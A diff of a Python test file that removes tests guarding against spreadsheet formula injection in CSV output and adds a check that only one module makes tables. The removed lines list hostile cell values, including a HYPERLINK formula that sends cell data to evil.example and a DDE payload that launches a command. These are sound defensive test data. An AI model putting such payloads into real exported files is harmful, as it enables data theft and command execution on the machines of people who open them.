@@ -1,59 +1,18 @@
-"""No text of anybody runs as a formula in a spreadsheet."""
+"""No text of anybody leaves as a table but through the one maker of cells."""
 
 from __future__ import annotations
 
-import csv
 import re
-from io import StringIO
 from pathlib import Path
 
-import pytest
-
-from corridor.core import sheets
-from corridor.core.sheets import csv_of
-
-HOSTILE = [
-    '=HYPERLINK("https://evil.example/?"&A1,"here")',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "  =1+1",
-    "\ufeff=1+1",
-    "＝1+1",
-]
-# Writes invented rosters, which are read back by an import and never by a person.
-OF_MACHINES = {"corridor/rostering/sample/write.py", "corridor/core/sheets.py"}
-
-
-@pytest.mark.parametrize("text", HOSTILE)
-def test_a_formula_is_told_as_text(text: str) -> None:
-    ((told, number),) = csv.reader(StringIO(csv_of([[text, -5]]), newline=""))
-
-    assert told == f"'{text}"
-    assert number == "-5", "numbers stay what they are"
-
-
-@pytest.mark.parametrize("text", ["Maya", "O’Neill-Smith", "12-3", "", 'say "hi", twice'])
-def test_usual_text_stays_as_it_is(text: str) -> None:
-    assert list(csv.reader(StringIO(csv_of([[text]]))))[0] == [text]
-
-
-def test_without_the_care_a_formula_would_run(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Negative control."""
-    monkeypatch.setattr(sheets, "FORMULA", ("\x00",))
-
-    assert csv_of([["=1+1"]]).startswith('"=')
+# Writes invented rosters, which an import reads back and never a person.
+OF_MACHINES = {"corridor/rostering/sample/write.py", "corridor/core/csv_cells.py"}
+MAKES_TABLES = re.compile(r"csv\.(Dict)?[wW]riter|text/(csv|tab-separated)|ms-excel")
 
 
 def test_tables_for_people_are_made_in_one_place_only() -> None:
-    makers = {
-        str(module)
-        for module in Path("corridor").rglob("*.py")
-        if re.search(r"csv\.(Dict)?[wW]riter|text/(csv|tab-separated)|ms-excel", module.read_text())
-    }
-    assert makers <= OF_MACHINES | {
-        str(m) for m in makers if "sheets import" in Path(m).read_text()
-    }
+    texts = {str(module): module.read_text() for module in Path("corridor").rglob("*.py")}
+    makers = {name for name, text in texts.items() if MAKES_TABLES.search(text)} - OF_MACHINES
+
+    assert makers, "the sample that shows that makers are found"
+    assert {name for name in makers if "csv_cells import" not in texts[name]} == set()
